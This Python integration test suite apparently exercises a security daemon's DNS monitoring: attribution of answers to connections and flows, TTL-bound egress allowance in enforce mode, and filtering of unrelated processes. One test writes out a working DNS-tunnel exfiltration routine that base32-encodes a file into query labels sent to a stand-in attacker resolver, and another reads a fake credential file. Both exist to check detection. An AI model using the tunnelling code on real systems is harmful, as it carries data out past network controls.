"""DNS of jobs, end to end: a DNS server in a network namespace this test
creates (reached over a veth pair), jobs that resolve names through it and
connect to what they got. Scenario A3 (dns-tunnel), answers attributed to
connects and flows, names in an enforce-mode egress list allowed in the
kernel for their TTL, and an unrelated process's DNS not reported."""
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from fixture import DataTree  # noqa: E402
from harness import Daemon, Listener  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
PY = "/usr/bin/python3"
HUB_TTL = 6  # above the kernel's floor (FTS_DNS_TTL_MIN, 5 s)

# The job side of DNS: a stub resolver like glibc's (a connected UDP socket,
# or TCP with the 2-byte length), then whatever the job does with the answer.
RESOLVE = r"""
import json, random, socket, struct, sys

def query(name, qid):
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)

def parse(msg):
    an = struct.unpack('>H', msg[6:8])[0]
    off = 12
    while msg[off]:
        off += msg[off] + 1
    off += 5
    out = []
    for _ in range(an):
        if msg[off] & 0xc0 == 0xc0:
            off += 2
        else:
            while msg[off]:
                off += msg[off] + 1
            off += 1
        t, _, ttl, n = struct.unpack('>HHIH', msg[off:off + 10])
        off += 10
        if t == 1:
            out.append(socket.inet_ntoa(msg[off:off + 4]))
        off += n
    return out

def resolve(server, name, tcp=False):
    qid = random.randint(1, 65535)
    if tcp:
        s = socket.create_connection((server, 53), timeout=5)
        m = query(name, qid)
        s.sendall(struct.pack('>H', len(m)) + m)
        n = struct.unpack('>H', s.recv(2))[0]
        r = b''
        while len(r) < n:
            r += s.recv(n - len(r))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.connect((server, 53))
        s.send(query(name, qid))
        r = s.recv(4096)
    s.close()
    return parse(r)

def connect(addr, port, payload=b''):
    try:
        c = socket.create_connection((addr, port), timeout=5)
        c.sendall(payload)
        c.close()
        return 0
    except OSError as e:
        return e.errno
"""


class Netns:
    """A network namespace with a veth pair to it and the test DNS server inside."""

    def __init__(self, table):
        tag = f"{os.getpid() % 10000}{random.randint(0, 9999):04d}"
        self.name = f"fts-kt-dns-{tag}"
        self.host_if, self.ns_if = f"fvh{tag}", f"fvn{tag}"
        a, b = random.randint(0, 255), random.randint(0, 63) * 4
        self.host_ip, self.server = f"10.213.{a}.{b + 1}", f"10.213.{a}.{b + 2}"
        self.tmp = os.path.join("/tmp", self.name)
        os.makedirs(self.tmp)
        self.proc = None
        run = lambda *c: subprocess.run(c, check=True, capture_output=True)
        run("ip", "netns", "add", self.name)
        try:
            run("ip", "link", "add", self.host_if, "type", "veth", "peer", "name", self.ns_if, "netns", self.name)
            run("ip", "addr", "add", f"{self.host_ip}/30", "dev", self.host_if)
            run("ip", "link", "set", self.host_if, "up")
            for c in (["ip", "addr", "add", f"{self.server}/30", "dev", self.ns_if],
                      ["ip", "link", "set", self.ns_if, "up"], ["ip", "link", "set", "lo", "up"]):
                run("ip", "netns", "exec", self.name, *c)
            table_file = os.path.join(self.tmp, "table.json")
            with open(table_file, "w") as f:
                json.dump(table, f)
            ready = os.path.join(self.tmp, "ready")
            self.proc = subprocess.Popen(["ip", "netns", "exec", self.name, PY, os.path.join(HERE, "dns_server.py"),
                                          self.server, table_file, ready])
            deadline = time.time() + 10
            while not os.path.exists(ready):
                if time.time() > deadline or self.proc.poll() is not None:
                    raise AssertionError("the test DNS server did not start")
                time.sleep(0.05)
        except BaseException:
            self.remove()
            raise

    def remove(self):
        if self.proc and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()
        subprocess.run(["ip", "netns", "del", self.name], capture_output=True)  # the veth pair goes with it
        shutil.rmtree(self.tmp, ignore_errors=True)


def net(events, job=None, op=None, name=None):
    out = []
    for e in events:
        n = e.get("network")
        if e.get("kind") != "network" or (job and e.get("job", {}).get("id") != job):
            continue
        if (op and n.get("op") != op) or (name and n.get("dns") != name):
            continue
        out.append(e)
    return out


def alerts(events, job):
    return [e for e in events if "rule" in e and e.get("job", {}).get("id") == job]


class DnsTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = DataTree()
        cls.hub = Listener("127.0.0.2")
        cls.other = Listener("127.0.0.3")
        cls.plain = Listener("127.0.0.1")
        cls.ns = Netns({
            "hub.fts-test": {"a": ["127.0.0.2"], "ttl": HUB_TTL},
            "other.fts-test": {"a": ["127.0.0.3"], "ttl": 30},
            "svc.fts-test": {"cname": "edge.cdn.fts-test", "a": ["127.0.0.1", "::1"], "ttl": 30},
        })
        server = cls.ns.server
        # The test server is the resolver both policies trust (not the host's resolv.conf).
        resolvers = f'  resolvers: ["{server}"]\n'
        mon = cls.t.policy(name="mon", extra=f'network:\n  egress: ["{server}:53"]\n' + resolvers)
        enf_net = f'network:\n  egress: ["{server}:53", "HUB.fts-test:{cls.hub.port}"]\n' + resolvers
        enf = cls.t.policy(name="enf", mode="enforce", extra=enf_net).replace(
            "fts-kt-launcher", "fts-kt-launcher-enf")
        cls.pin = f"/sys/fs/bpf/fts-kt-dns-{os.getpid()}-{random.randint(0, 1 << 30)}"
        try:
            cls.d = Daemon({"mon.yaml": mon, "enf.yaml": enf},
                           extra_config=f"sensor: {{ pin: true, pin_dir: {cls.pin} }}\n").start()
        except BaseException:
            cls.ns.remove()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        shutil.rmtree(cls.pin, ignore_errors=True)
        cls.ns.remove()
        for s in (cls.hub, cls.other, cls.plain):
            s.close()
        cls.t.cleanup()

    def job(self, policy, code, *args):
        r = self.d.cli("run", "--policy", policy, "--", PY, "-c", RESOLVE + code, *args, timeout=120)
        if r.returncode != 0:
            raise AssertionError(f"job failed: {r.returncode}\n{r.stdout}\n{r.stderr}")
        return r.stderr.split("job ")[1].split()[0], r.stdout

    def dns_allowed(self):
        """The kernel's dns_allowed map: [(policy index, address)]."""
        r = subprocess.run(["bpftool", "-j", "map", "dump", "pinned", os.path.join(self.pin, "dns_allowed")],
                           capture_output=True, text=True, check=True)
        out = []
        for e in json.loads(r.stdout):
            k = e.get("formatted", {}).get("key") or e["key"]
            if isinstance(k, dict):
                out.append((k["policy"], bytes(k["addr"])[12:]))
            else:  # raw hex bytes
                b = bytes(int(x, 16) for x in k)  # job_id u64, policy u32, addr[16]
                out.append((int.from_bytes(b[8:12], "little"), b[24:28]))
        return out

    def test_answers_are_attributed_to_connects_and_flows(self):
        code = """
import sys
server, port = sys.argv[1], int(sys.argv[2])
a = resolve(server, 'svc.fts-test')
b = resolve(server, 'other.fts-test', tcp=True)
print(json.dumps({'svc': a, 'other': b, 'rc': connect(a[0], port, b'z' * 3000)}))
"""
        job, out = self.job("mon", code, self.ns.server, str(self.plain.port))
        res = json.loads(out)
        self.assertEqual(res, {"svc": ["127.0.0.1"], "other": ["127.0.0.3"], "rc": 0})
        ans = self.d.wait_for(lambda evs: net(evs, job, "dns_answer", "svc.fts-test") or None, what="the answer")
        evs = self.d.sync()  # the job has ended: after the barrier every record of it is in
        n = ans[0]["network"]
        self.assertEqual((n["protocol"], n["daddr"], n["dport"], n["dns_rcode"]), ("udp", self.ns.server, 53, "noerror"))
        # behind the CNAME: the A record only (the job asked for A), attributed to the question's name
        self.assertEqual(n["dns_answers"], [{"address": "127.0.0.1", "ttl": 30}])
        self.assertFalse(n.get("dns_allowed", False))  # not a name of mon's egress list
        q = net(evs, job, "dns_query", "svc.fts-test")
        self.assertEqual(len(q), 1)
        self.assertEqual(q[0]["network"]["dns_id"], n["dns_id"])
        tcp = self.d.wait_for(lambda evs: net(evs, job, "dns_answer", "other.fts-test") or None, what="the TCP answer")
        self.assertEqual(tcp[0]["network"]["protocol"], "tcp")
        self.assertEqual(tcp[0]["network"]["dns_answers"], [{"address": "127.0.0.3", "ttl": 30}])
        self.assertEqual(net(evs, job, "dns_query", "other.fts-test")[0]["network"]["protocol"], "tcp")
        conn = [e for e in net(evs, job, "connect") if e["network"]["dport"] == self.plain.port]
        self.assertEqual(len(conn), 1)
        self.assertEqual((conn[0]["network"]["daddr"], conn[0]["network"]["dns"]), ("127.0.0.1", "svc.fts-test"))
        flow = self.d.wait_for(lambda evs: [e for e in net(evs, job, "flow") if e["network"]["dport"] == self.plain.port]
                               or None, what="the flow")
        self.assertEqual((flow[0]["network"]["dns"], int(flow[0]["network"]["bytes"])), ("svc.fts-test", 3000))
        al = self.d.wait_for(lambda evs: [a for a in alerts(evs, job) if a["rule"] == "egress-not-allowed"] or None,
                             what="egress-not-allowed")
        self.assertEqual((al[0]["network"]["daddr"], al[0]["network"]["dns"]), ("127.0.0.1", "svc.fts-test"))

    def test_enforce_allows_the_addresses_of_a_name_for_its_ttl(self):
        code = """
import sys, time
server, hub_port, other_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
res = {'hub': resolve(server, 'hub.fts-test'), 'other': resolve(server, 'other.fts-test')}
res['hub_ok'] = connect('127.0.0.2', hub_port, b'h' * 100)
res['other_denied'] = connect('127.0.0.3', other_port)
res['hub_other_port_denied'] = connect('127.0.0.2', other_port)
print(json.dumps(res), flush=True)
"""
        job, out = self.job("enf", code, self.ns.server, str(self.hub.port), str(self.other.port))
        res = json.loads(out)
        self.assertEqual(res, {"hub": ["127.0.0.2"], "other": ["127.0.0.3"], "hub_ok": 0, "other_denied": 1,
                               "hub_other_port_denied": 1})  # 1: EPERM
        ans = self.d.wait_for(lambda evs: net(evs, job, "dns_answer", "hub.fts-test") or None, what="hub's answer")
        self.assertTrue(ans[0]["network"]["dns_allowed"])
        self.assertEqual(ans[0]["network"]["dns_answers"], [{"address": "127.0.0.2", "ttl": HUB_TTL}])
        granted = time.time()
        # The job has ended: after the barrier every connect it made is out (the
        # answer can be out a batch before them).
        evs = self.d.sync()
        self.assertFalse(net(evs, job, "dns_answer", "other.fts-test")[0]["network"].get("dns_allowed", False))
        ok = [e for e in net(evs, job, "connect") if e["network"]["dport"] == self.hub.port]
        self.assertEqual(len(ok), 1)
        n = ok[0]["network"]
        self.assertEqual((n["daddr"], n["verdict"], n["action"], n["allowed_by_dns"], n["dns"]),
                         ("127.0.0.2", "allowed", "allowed", True, "hub.fts-test"))
        blocked = sorted((e["network"]["daddr"], e["network"]["action"])
                         for e in net(evs, job, "connect") if e["network"]["dport"] == self.other.port)
        self.assertEqual(blocked, [("127.0.0.2", "blocked"), ("127.0.0.3", "blocked")])
        enf_index = {p for p, a in self.dns_allowed() if a == socket.inet_aton("127.0.0.2")}
        self.assertEqual(len(enf_index), 1, self.dns_allowed())  # in the kernel, for enf only
        # Past the TTL: refused again, and the daemon removed the kernel entry.
        time.sleep(max(0, granted + HUB_TTL + 0.5 - time.time()))
        job2, out2 = self.job("enf", "import sys\nprint(connect('127.0.0.2', int(sys.argv[1])))", str(self.hub.port))
        self.assertEqual(out2.strip(), "1")
        deadline = time.time() + 10
        while any(a == socket.inet_aton("127.0.0.2") for _, a in self.dns_allowed()):
            self.assertLess(time.time(), deadline, "the expired entry is still in the kernel")
            time.sleep(0.2)

    def test_glibc_resolver_then_connect_in_enforce_mode(self):
        # The job's own getaddrinfo (glibc's stub resolver: A and AAAA on one
        # socket), pointed at the test server by a resolv.conf bind-mounted in a
        # private mount namespace, then an immediate connect.
        resolv = os.path.join(self.ns.tmp, "resolv.conf")
        with open(resolv, "w") as f:
            f.write(f"nameserver {self.ns.server}\noptions attempts:1 timeout:2\n")
        code = ("import socket, sys\n"
                "ai = socket.getaddrinfo('hub.fts-test', int(sys.argv[1]), socket.AF_INET, socket.SOCK_STREAM)\n"
                "c = socket.create_connection(ai[0][4], timeout=5)\n"
                "c.sendall(b'g' * 10)\n"
                "c.close()\n"
                "print(ai[0][4][0])\n")
        r = self.d.cli("run", "--policy", "enf", "--", "unshare", "-m", "sh", "-c",
                       f'mount --bind "$0" /etc/resolv.conf && exec {PY} -c "$1" "$2"', resolv, code,
                       str(self.hub.port), timeout=60)
        self.assertEqual((r.returncode, r.stdout.strip()), (0, "127.0.0.2"), r.stderr)
        job = r.stderr.split("job ")[1].split()[0]
        conn = self.d.wait_for(lambda evs: [e for e in net(evs, job, "connect") if e["network"]["dport"] == self.hub.port]
                               or None, what="the connect")
        n = conn[0]["network"]
        self.assertEqual((n["action"], n["allowed_by_dns"], n["dns"]), ("allowed", True, "hub.fts-test"))

    def test_a3_base32_of_a_shard_in_query_labels_is_a_dns_tunnel(self):
        code = """
import base64, sys
server, path = sys.argv[1], sys.argv[2]
b = base64.b32encode(open(path, 'rb').read()).decode().rstrip('=').lower()
names = []
for i in range(0, len(b), 96):
    chunk = b[i:i + 96]
    names.append('.'.join(chunk[j:j + 48] for j in range(0, len(chunk), 48)) + '.tunnel.fts-test')
for n in names:
    resolve(server, n)  # NXDOMAIN: the server is the attacker's; the question carried the data
print(json.dumps(names))
"""
        job, out = self.job("mon", code, self.ns.server, self.t.shards[0])
        names = json.loads(out)
        self.assertGreater(len(names), 8)
        al = self.d.wait_for(lambda evs: [a for a in alerts(evs, job) if a["rule"] == "dns-tunnel"] or None,
                             what="dns-tunnel")
        a = al[0]
        self.assertEqual((a["severity"], a["mitre"]["attack"]), ("high", ["T1048.003", "T1071.004"]))
        self.assertEqual((a["network"]["daddr"], a["network"]["dport"]), (self.ns.server, 53))
        self.assertIn(a["network"]["dns"], names)
        self.assertIn("tunnel.fts-test", a["message"])
        got = self.d.wait_for(lambda evs: (lambda q: q if len(q) == len(names) else None)(
            [e["network"]["dns"] for e in net(evs, job, "dns_query")]), what="every query")
        self.assertEqual(sorted(got), sorted(names))
        answers = net(self.d.events(), job, "dns_answer")
        self.assertEqual({e["network"]["dns_rcode"] for e in answers}, {"nxdomain"})
        self.assertEqual([x["rule"] for x in alerts(self.d.sync(), job)], ["dns-tunnel"])

    def test_unrelated_process_dns_is_not_reported(self):
        # The control: after its query the outsider reads a credential file, which
        # is reported for anyone.
        code = RESOLVE + ("import os, sys\nresolve(sys.argv[1], 'svc.fts-test')\nopen(sys.argv[2]).read()\n"
                          "print(os.getpid())\n")
        outsider = int(subprocess.run([PY, "-c", code, self.ns.server, self.t.aws], check=True, capture_output=True,
                                      text=True, timeout=30).stdout)
        self.d.wait_for(lambda evs: [e for e in evs if e.get("kind") == "file" and e["process"]["pid"] == outsider],
                        what="the outsider's credential read")
        evs = self.d.sync()
        for e in net(evs):
            self.assertIn("job", e, e)
            self.assertNotEqual(e["process"]["pid"], outsider, e)
        self.assertEqual([(e.get("kind"), e.get("file", {}).get("path")) for e in evs
                          if e.get("process", {}).get("pid") == outsider], [("file", self.t.aws)])


if __name__ == "__main__":
    harness.main()
